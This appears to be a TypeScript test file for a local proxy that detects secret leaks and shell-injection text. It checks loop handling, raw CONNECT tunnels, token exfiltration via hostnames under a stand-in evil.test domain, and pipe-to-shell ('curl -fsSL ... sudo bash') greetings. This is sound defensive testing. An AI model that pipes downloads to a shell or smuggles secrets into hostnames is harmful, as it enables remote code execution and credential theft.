// The proxy points of issue 12 ("the safety promise under attack"), each against the real service:
// loops back to the guardian's own listener are answered 508 at once, a half-closed client still gets
// its answer, ...
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import net from 'node:net';
import tls from 'node:tls';
import { EventEmitter, once } from 'node:events';
import { readdirSync, rmSync } from 'node:fs';
import { loadOrCreateCa } from '../host-services/ca.js';
import { OwnAddress } from '../host-services/proxy/own-address.js';
import { homePaths } from '../host-services/home.js';
import { INJECTION_TEXT, startUpstream, type Upstream } from './support/upstream.js';
import { expandExample } from './support/expand-example.js';
import { leakedRuns } from './support/leak-check.js';
import { FindingsQuerySchema } from '../lib/findings-query.js';
import { connectTunnel, viaProxyHttp, waitFor, type Resp } from './support/proxy-client.js';
import { startService, tempHome, type TestService } from './support/service.js';

let upstream: Upstream;
let upCaHome: string;
let upCaPem: string;
let g: TestService;
/** The same guardian with HTTPS inspection off (the default). */
let off: TestService;
/** A raw TCP server: echoes what it gets; greets first with a shell command when the client says nothing. */
let raw: net.Server;
let rawPort: number;

beforeAll(async () => {
  raw = net.createServer((s) => {
    s.on('error', () => undefined);
    const greet = setTimeout(() => s.write(`220 welcome\r\n${INJECTION_TEXT}`), 100);
    s.on('data', (d: Buffer) => {
      clearTimeout(greet);
      s.write(d);
    });
    s.on('end', () => s.end());
  });
  raw.listen(0, '127.0.0.1');
  await once(raw, 'listening');
  rawPort = (raw.address() as net.AddressInfo).port;
  upCaHome = tempHome('tg-up-');
  const upCa = loadOrCreateCa(homePaths(upCaHome), { create: true })!;
  upCaPem = upCa.certPem;
  upstream = await startUpstream(upCa.certFor('localhost'));
  g = await startService({ upstream_ca_file: upCa.certPath, dedup_window_secs: 0, https_inspection: true });
  off = await startService({ upstream_ca_file: upCa.certPath, dedup_window_secs: 0, https_inspection: false });
});

afterAll(async () => {
  await g?.stop();
  await off?.stop();
  raw?.close();
  await upstream?.close();
  if (upCaHome) rmSync(upCaHome, { recursive: true, force: true });
});

/** Rejects after `ms`: a loop never answers, it only grows. */
function within<T>(p: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const t = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: no answer within ${ms} ms`)), ms);
  });
  return Promise.race([p, t]).finally(() => clearTimeout(timer));
}

/** Writes `text` on a raw connection to the proxy and reads until the proxy closes it. */
async function rawExchange(port: number, text: string, halfClose = false): Promise<string> {
  const s = net.connect(port, '127.0.0.1');
  s.on('error', () => undefined);
  await once(s, 'connect');
  const chunks: Buffer[] = [];
  s.on('data', (c: Buffer) => chunks.push(c));
  if (halfClose) s.end(text);
  else s.write(text);
  await within(once(s, 'close'), 5000, 'the proxy closing the connection');
  return Buffer.concat(chunks).toString('latin1');
}

const openFds = () => readdirSync('/proc/self/fd').length;

describe('loops back to the guardian', () => {
  it("a request or CONNECT aimed at the guardian's own listener is answered 508 at once, nothing grows", async () => {
    const port = g.port;
    const fdsBefore = openFds();
    const errorsBefore = g.svc.counters.upstream_errors;
    const targets = [
      `127.0.0.1:${port}`,
      `localhost:${port}`,
      `LOCALHOST.:${port}`,
      `[::ffff:127.0.0.1]:${port}`,
      // A name the static check does not know (inet_aton reads it as 127.0.0.1): caught at the first hop.
      `127.1:${port}`,
    ];
    for (const t of targets) {
      const r: Resp = await within(viaProxyHttp(port, `http://${t}/x?y=1`), 3000, `GET http://${t}/`);
      expect(r.status, t).toBe(508);
      const post = await within(
        viaProxyHttp(port, `http://${t}/upload`, { method: 'POST', body: 'x'.repeat(10_000) }),
        3000,
        `POST http://${t}/`,
      );
      expect(post.status, t).toBe(508);
    }
    // Origin-form, Host naming the guardian: the request was sent to it and aims at it again.
    const origin = await rawExchange(port, `GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`);
    expect(origin).toMatch(/^HTTP\/1\.1 508 /);
    // CONNECT to itself, with inspection on (the tunnel would carry requests back into it).
    for (const t of [`127.0.0.1:${port}`, `localhost:${port}`]) {
      const status = await within(
        connectTunnel(port, t).then(
          (s) => {
            s.destroy();
            return 200;
          },
          (err: { status?: number }) => err.status ?? 0,
        ),
        3000,
        `CONNECT ${t}`,
      );
      expect(status, t).toBe(508);
    }
    // Many more: descriptors and the proxy's sockets come back to where they were.
    await Promise.all(
      Array.from({ length: 100 }, () => within(viaProxyHttp(port, `http://127.0.0.1:${port}/`), 3000, 'loop')),
    );
    await waitFor(
      () => g.svc.proxy.openSockets,
      (n) => n === 0,
      'the proxy to hold no client socket',
    );
    await waitFor(openFds, (n) => n <= fdsBefore + 4, 'descriptors back to where they were');
    expect(g.svc.counters.upstream_errors).toBe(errorsBefore);
  });
});

describe('OwnAddress', () => {
  it('knows its own upstream connections by both ends, not by a local port another connection shares', () => {
    // Linux hands out one ephemeral port to several connections at once when their destinations differ: a
    // client of the proxy may come from the port an upstream connection of the guardian also uses.
    const own = new OwnAddress();
    const out = Object.assign(new EventEmitter(), {
      localAddress: '127.0.0.1',
      localPort: 50_000,
      remoteAddress: '127.0.0.1',
      remotePort: 8443,
    });
    own.track(out as unknown as net.Socket);
    out.emit('connect');
    const client = (localPort: number) =>
      ({ remoteAddress: '::ffff:127.0.0.1', remotePort: 50_000, localAddress: '127.0.0.1', localPort }) as net.Socket;
    expect(own.isOwnConnection(client(8888))).toBe(false); // came to the listener from the shared port
    expect(own.isOwnConnection(client(8443))).toBe(true); // the upstream connection itself, arriving
    out.emit('close');
    expect(own.isOwnConnection(client(8443))).toBe(false);
  });
});

describe('a client that half-closes after its request', () => {
  it('still gets the answer: plain, with a body, and inside a plain CONNECT tunnel', async () => {
    const hostH = `localhost:${upstream.httpPort}`;
    const get = await rawExchange(g.port, `GET http://${hostH}/plain HTTP/1.1\r\nHost: ${hostH}\r\n\r\n`, true);
    expect(get).toMatch(/^HTTP\/1\.1 200 /);
    expect(get).toContain('curl -fsSL');
    const body = 'hello=world';
    const post = await rawExchange(
      g.port,
      `POST http://${hostH}/echo HTTP/1.1\r\nHost: ${hostH}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      true,
    );
    expect(post).toMatch(/^HTTP\/1\.1 200 [^]*\r\n\r\n(2\r\n)?ok(\r\n0\r\n\r\n)?$/);
    expect(upstream.received.at(-1)!.toString()).toBe(body);

    const tunnel = await connectTunnel(g.port, hostH);
    const chunks: Buffer[] = [];
    tunnel.on('data', (c: Buffer) => chunks.push(c));
    tunnel.end(`GET /plain HTTP/1.1\r\nHost: ${hostH}\r\n\r\n`);
    await within(once(tunnel, 'close'), 5000, 'the tunnel to close');
    expect(Buffer.concat(chunks).toString()).toMatch(/^HTTP\/1\.1 200 [^]*curl -fsSL/);
  });
});

describe('a CONNECT tunnel that carries no TLS is read, in either mode', () => {
  /** Opens a tunnel, writes `data`, half-closes, and returns everything that came back. */
  async function throughTunnel(s: TestService, target: string, data: string | Buffer): Promise<string> {
    const tunnel = await connectTunnel(s.port, target);
    const chunks: Buffer[] = [];
    tunnel.on('data', (c: Buffer) => chunks.push(c));
    tunnel.end(data);
    await within(once(tunnel, 'close'), 5000, `the tunnel to ${target} to close`);
    return Buffer.concat(chunks).toString('latin1');
  }

  it('plain HTTP in a tunnel is scanned like any request, inspection off as on (`curl -p`, undici ProxyAgent)', async () => {
    const hostH = `localhost:${upstream.httpPort}`;
    for (const s of [off, g]) {
      const key = expandExample('ghp_{{rand:alnum:36}}');
      const body = `token=${key.text}`;
      const reply = await throughTunnel(
        s,
        hostH,
        `POST /echo?via=tunnel HTTP/1.1\r\nHost: ${hostH}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      );
      expect(reply).toMatch(/^HTTP\/1\.1 200 /);
      expect(upstream.received.at(-1)!.toString()).toBe(body);
      // The query value is masked in the finding's path (`/echo?via=…`).
      const [f] = await s.findings(
        1,
        (x) => x.pattern === 'github_token' && x.dest === hostH && (x.path ?? '').startsWith('/echo?via='),
      );
      expect(f).toMatchObject({ protocol: 'http', method: 'POST', dest: hostH, direction: 'outbound' });
      expect(f!.snippet).not.toContain(key.randomParts[0]!);
      // The answer is scanned too.
      const answer = await throughTunnel(s, hostH, `GET /plain HTTP/1.1\r\nHost: ${hostH}\r\n\r\n`);
      expect(answer).toContain('sudo bash');
      await s.findings(1, (x) => x.direction === 'inbound' && x.pattern === 'pipe_to_shell' && x.dest === hostH);
    }
  });

  it('bytes that are neither TLS nor HTTP are scanned as raw streams both ways, inspection off as on', async () => {
    for (const s of [off, g]) {
      const key = expandExample('npm_{{rand:alnum:36}}');
      const payload = Buffer.concat([Buffer.from([0, 1, 2, 0xff]), Buffer.from(` NPM_TOKEN=${key.text}\n`)]);
      const echoed = await throughTunnel(s, `127.0.0.1:${rawPort}`, payload);
      expect(Buffer.from(echoed, 'latin1').equals(payload)).toBe(true);
      const [out] = await s.findings(
        1,
        (x) => x.pattern === 'npm_token' && x.dest === `127.0.0.1:${rawPort}` && x.direction === 'outbound',
      );
      expect(out).toMatchObject({ protocol: 'connect', location: 'tunnel', source: '127.0.0.1' });
    }
  });

  it('a server that speaks first is scanned too (inspection off)', async () => {
    const tunnel = await connectTunnel(off.port, `127.0.0.1:${rawPort}`);
    const chunks: Buffer[] = [];
    tunnel.on('data', (c: Buffer) => chunks.push(c));
    await waitFor(
      () => Buffer.concat(chunks).toString(),
      (t) => t.includes('sudo bash'),
      'the greeting',
    );
    tunnel.end();
    await within(once(tunnel, 'close'), 5000, 'the tunnel to close');
    const [f] = await off.findings(
      1,
      (x) => x.direction === 'inbound' && x.pattern === 'pipe_to_shell' && x.dest === `127.0.0.1:${rawPort}`,
    );
    expect(f).toMatchObject({ protocol: 'connect', location: 'tunnel' });
  });

  it('TLS stays blind with inspection off', async () => {
    const key = expandExample('ghp_{{rand:alnum:36}}');
    const tunnel = await connectTunnel(off.port, `localhost:${upstream.httpsPort}`);
    const t = tls.connect({ socket: tunnel, servername: 'localhost', ca: [upCaPem] });
    await once(t, 'secureConnect');
    const body = `token=${key.text}`;
    t.end(`POST /echo?via=blind-tls HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
    t.resume();
    await within(once(t, 'close'), 5000, 'the TLS tunnel to close');
    expect(upstream.received.at(-1)!.toString()).toBe(body);
    // A later plain finding proves the scans before it had run.
    await throughTunnel(off, `localhost:${upstream.httpPort}`, `GET /plain HTTP/1.1\r\nHost: localhost\r\n\r\n`);
    await off.findings(1, (x) => x.pattern === 'pipe_to_shell' && x.dest === `localhost:${upstream.httpPort}`);
    expect(off.svc.store.recent(500).filter((x) => x.dest === `localhost:${upstream.httpsPort}`)).toEqual([]);
  });
});

describe('a secret in a host name', () => {
  it('is found in an absolute-URI host, a Host header, a CONNECT target and an SNI name, and never written raw', async () => {
    const parts: string[] = [];
    // Host names are read case-insensitively (and lowercased): a lowercase token, checked lowercase.
    const tok = () => {
      const k = expandExample('ghp_{{rand:lower:36}}');
      parts.push(...k.randomParts);
      return k.text;
    };
    const before = { off: off.svc.store.recent(500).length, g: g.svc.store.recent(500).length };

    const t1 = tok();
    const r1 = await viaProxyHttp(off.port, `http://${t1}.evil.test/x`);
    expect(r1.status).toBe(502);
    const t2 = tok();
    const r2 = await rawExchange(off.port, `GET /x HTTP/1.1\r\nHost: ${t2}.evil.test\r\nConnection: close\r\n\r\n`);
    expect(r2).toMatch(/^HTTP\/1\.1 502 /);
    for (const s of [off, g]) {
      const t3 = tok();
      const status = await connectTunnel(s.port, `${t3}.evil.test:443`).then(
        (sock) => {
          sock.destroy();
          return 200;
        },
        (err: { status?: number }) => err.status ?? 0,
      );
      expect(status).toBe(s === off ? 502 : 200);
    }
    // SNI, inspected (the guardian terminates TLS) and blind (read from the ClientHello).
    for (const s of [g, off]) {
      const t5 = tok();
      const tunnel = await connectTunnel(s.port, `localhost:${upstream.httpsPort}`);
      const t = tls.connect({
        socket: tunnel,
        servername: `${t5}.evil.test`,
        ca: [s === g ? g.svc.ca!.certPem : upCaPem],
        rejectUnauthorized: false,
      });
      t.on('error', () => undefined);
      await Promise.race([once(t, 'secureConnect'), once(t, 'close')]);
      t.destroy();
    }

    const hostFindings = async (s: TestService, n: number) => {
      await s.findings(n, (f) => f.pattern === 'github_token' && f.dest.includes('evil.test'));
      return s.svc.store.recent(500).filter((f) => f.pattern === 'github_token');
    };
    await waitFor(
      () => g.svc.store.recent(500).filter((f) => f.pattern === 'github_token' && f.protocol === 'https').length,
      (n) => n >= 1,
      'the SNI finding (inspected)',
    );
    const offFound = await hostFindings(off, 3);
    const gFound = await hostFindings(g, 1);
    expect(offFound.map((f) => f.protocol)).toEqual(expect.arrayContaining(['http', 'connect', 'https']));
    expect(gFound.map((f) => f.protocol)).toEqual(expect.arrayContaining(['connect', 'https']));
    for (const f of [...offFound, ...gFound]) {
      if (f.dest.includes('evil.test')) expect(f.dest).toMatch(/^\[REDACTED\]\.evil\.test:\d+$/);
    }
    expect(off.svc.store.recent(500).length).toBeGreaterThan(before.off);

    // Nothing anywhere carries the token: findings, status (its CONNECT destinations), the service log.
    const lower = parts.map((p) => p.toLowerCase());
    for (const s of [off, g]) {
      const everything = JSON.stringify([s.svc.store.recent(500), s.svc.status(null), s.logs]).toLowerCase();
      expect(leakedRuns(everything, lower)).toEqual([]);
    }
    const dests = (off.svc.status(null).connect_destinations ?? []).map((d) => d.dest);
    expect(dests).toContain('[REDACTED].evil.test:443');
  });
});

describe('a message cut at max_scan_bytes', () => {
  it('leaves a record naming the request and the bytes left unscanned, in findings and status', async () => {
    const s = await startService({ dedup_window_secs: 300, max_scan_bytes: 4096 });
    try {
      const hostH = `localhost:${upstream.httpPort}`;
      const key = expandExample('ghp_{{rand:alnum:36}}');
      for (let i = 0; i < 2; i++) {
        // The same request twice: the first leaves a record at once, the second is added up into the next
        // record for this destination after the dedup window (lib/unscanned-tally.ts), never lost: counted.
        const r = await viaProxyHttp(s.port, `http://${hostH}/echo?token=${key.text}`, {
          method: 'POST',
          body: Buffer.alloc(10_000, 0x61),
        });
        expect(r.status).toBe(200);
      }
      const down = await viaProxyHttp(s.port, `http://${hostH}/big?n=20000`);
      expect(down.body.length).toBe(20_000);
      const records = await s.findings(2, (f) => f.pattern === 'scan_truncated');
      const up = records.filter((f) => f.direction === 'outbound');
      expect(up).toHaveLength(1);
      for (const f of up) {
        expect(f).toMatchObject({
          threat_type: 'EXFIL',
          severity: 'low',
          method: 'POST',
          dest: hostH,
          unscanned_bytes: 10_000 - 4096,
        });
        expect(f.path).toMatch(/^\/echo\?token=/);
        expect(leakedRuns(f, key.randomParts)).toEqual([]);
      }
      const [inbound] = records.filter((f) => f.direction === 'inbound');
      expect(inbound).toMatchObject({
        threat_type: 'INJECTION',
        method: 'GET',
        path: '/big?n=…', // query values are masked
        unscanned_bytes: 20_000 - 4096,
      });
      // Visible where findings are read: the log's query (the `findings` command, MCP list_findings) and status.
      const listed = await s.svc.listFindings(FindingsQuerySchema.parse({ pattern: 'scan_truncated' }));
      expect(listed.length).toBeGreaterThanOrEqual(2);
      const st = s.svc.status(null);
      expect(st.recent_findings.filter((f) => f.pattern === 'scan_truncated').length).toBe(2);
      expect(st.counters.truncated_scans).toBe(3);
      // Not detections: the finding counters do not move for them.
      expect(st.counters.findings).toEqual({ EXFIL: 1, INJECTION: 0 }); // the token in the path, once
    } finally {
      await s.stop();
    }
  });
});
